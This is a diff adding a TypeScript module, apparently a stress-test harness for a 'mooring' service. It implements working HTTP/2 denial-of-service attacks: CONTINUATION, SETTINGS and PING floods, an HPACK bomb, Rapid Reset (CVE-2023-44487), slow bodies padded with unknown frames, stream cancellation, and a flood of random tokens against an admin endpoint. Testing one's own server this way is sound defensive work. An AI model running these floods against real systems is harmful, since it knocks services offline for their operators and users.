@@ -1,0 +1,175 @@
+// Frames without end: small for the one who sends them, work for the one who reads them.
+import type { Socket } from "node:net";
+import {
+  END_HEADERS,
+  END_STREAM,
+  FRAME,
+  fields,
+  frame,
+  openRaw,
+  request,
+  text,
+  uint32,
+} from "../frame.ts";
+import {
+  type Attack,
+  add,
+  createRandom,
+  pause,
+  type Tally,
+  type Target,
+  writeAll,
+} from "../target.ts";
+
+const PATH = "/api/public/settings";
+
+/**
+ * Writes what `next` makes, over and over, on new connections when the server closes one.
+ *
+ * @param rounds connections at most.
+ */
+function flood(next: (target: Target, round: number) => (count: number) => Buffer): Attack {
+  return async (target, signal) => {
+    const tally: Tally = { connections: 0, "MB sent": 0 };
+    const one = async (): Promise<void> => {
+      for (let round = 0; round < 200 && !signal.aborted; round += 1) {
+        const socket = await openRaw(target);
+        add(tally, "connections");
+        const make = next(target, round);
+        await pour(socket, make, tally, signal);
+        socket.destroy();
+      }
+    };
+    await Promise.all([one(), one()]);
+    return tally;
+  };
+}
+
+async function pour(
+  socket: Socket,
+  make: (count: number) => Buffer,
+  tally: Tally,
+  signal: AbortSignal,
+): Promise<void> {
+  for (let count = 0; !signal.aborted; count += 1) {
+    const bytes = make(count);
+    if (bytes.length === 0 || !(await writeAll(socket, bytes, signal))) return;
+    add(tally, "MB sent", bytes.length / 1e6);
+    // The socket's own events have to run, too: a server that has closed it is noticed.
+    if (count % 16 === 0) await pause(0, signal);
+  }
+}
+
+/** A request whose headers go on and on (CVE-2024-27316 and others). */
+export const continuationFlood = flood(({ seed }, round) => {
+  const random = createRandom(seed + round);
+  return (count) => {
+    if (count === 0) return frame(FRAME.headers, 0, 1, fields(request(PATH, {}, "GET")));
+    const name = `x-${Math.floor(random() * 1e9).toString(36)}`;
+    return frame(FRAME.continuation, 0, 1, fields({ [name]: "v".repeat(4_000) }));
+  };
+});
+
+/** Settings, each of which has to be acknowledged (CVE-2019-9515). */
+export const settingsFlood = flood(() => () => repeat(64, () => frame(FRAME.settings, 0, 0)));
+
+/** Pings, each of which has to be answered (CVE-2019-9512). */
+export const pingFlood = flood(
+  () => () => repeat(64, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8, 7))),
+);
+
+/** A field of 4 kB in the table, and requests that name it hundreds of times in a byte each. */
+export const hpackBomb = flood(() => {
+  let stream = -1;
+  return (count) => {
+    stream += 2;
+    const plain = fields(request(PATH, {}, "GET"));
+    // Literal with indexing (RFC 7541, section 6.2.1); 62 is the newest entry of the table then.
+    const kept = Buffer.concat([Buffer.of(0x40), text("x-bomb"), text("b".repeat(3_900))]);
+    const block = Buffer.concat([plain, count === 0 ? kept : Buffer.alloc(4_000, 0x80 | 62)]);
+    return frame(FRAME.headers, END_HEADERS | END_STREAM, stream, block);
+  };
+});
+
+/** Requests that are taken back at once (CVE-2023-44487). */
+export const rapidReset = flood(() => {
+  let stream = -1;
+  return () => {
+    if (stream > 20_000) return Buffer.of();
+    return repeat(16, () => {
+      stream += 2;
+      const head = fields(request("/mooring.v1.PublicService/WatchPublicSettings", GRPC));
+      return Buffer.concat([
+        frame(FRAME.headers, END_HEADERS, stream, head),
+        frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5)),
+        frame(FRAME.reset, 0, stream, uint32(8)),
+      ]);
+    });
+  };
+});
+
+const GRPC = { "content-type": "application/grpc", te: "trailers" };
+
+/**
+ * Bodies that come a byte at a time, each byte among 48 kB of frames that mean nothing: whoever keeps
+ * the byte as it was read keeps all of them.
+ */
+export const slivers = flood(() => {
+  const streams = 200;
+  const noise = repeat(3, () => frame(UNKNOWN, 0, 0, Buffer.alloc(16_000)));
+  const head = fields(
+    request("/mooring.v1.PublicService/GetPublicSettings", { "content-type": "application/json" }),
+  );
+  return (count) => {
+    const stream = 1 + 2 * (count % streams);
+    const sliver = frame(FRAME.data, 0, stream, Buffer.from(" "));
+    if (count >= streams) return Buffer.concat([noise, sliver]);
+    return Buffer.concat([frame(FRAME.headers, END_HEADERS, stream, head), sliver]);
+  };
+});
+
+/** A kind of frames that nobody has defined: to be ignored (RFC 9113, section 4.1). */
+const UNKNOWN = 0x42;
+
+/** 895 calls of one connection, cancelled in two and a half seconds, as a client of many calls may do. */
+export const cancelledStreams: Attack = async (target, signal) => {
+  const tally: Tally = { streams: 0, "connections closed": 0 };
+  const one = async (): Promise<void> => {
+    const socket = await openRaw(target);
+    socket.once("close", () => {
+      add(tally, "connections closed");
+    });
+    for (let count = 0; count < 895 && !signal.aborted; count += 1) {
+      const stream = 1 + 2 * count;
+      const head = fields(request("/mooring.v1.PublicService/WatchPublicSettings", GRPC));
+      const opened = Buffer.concat([
+        frame(FRAME.headers, END_HEADERS, stream, head),
+        frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5)),
+      ]);
+      if (!(await writeAll(socket, opened, signal))) return;
+      await pause(2, signal);
+      if (!(await writeAll(socket, frame(FRAME.reset, 0, stream, uint32(8)), signal))) return;
+      add(tally, "streams");
+    }
+    socket.destroy();
+  };
+  await Promise.all([one(), one()]);
+  return tally;
+};
+
+/** Tokens that are all wrong, as fast as they are refused. */
+export const wrongTokens = flood(({ seed }, round) => {
+  const random = createRandom(seed + round);
+  let stream = -1;
+  return () =>
+    repeat(8, () => {
+      stream += 2;
+      const authorization = `mooring-${Math.floor(random() * 1e15).toString(36)}`;
+      const head = fields(request("/api/admin/setting/list", { authorization }, "GET"));
+      return frame(FRAME.headers, END_HEADERS | END_STREAM, stream, head);
+    });
+});
+
+function repeat(times: number, make: () => Buffer): Buffer {
+  return Buffer.concat(Array.from({ length: times }, make));
+}
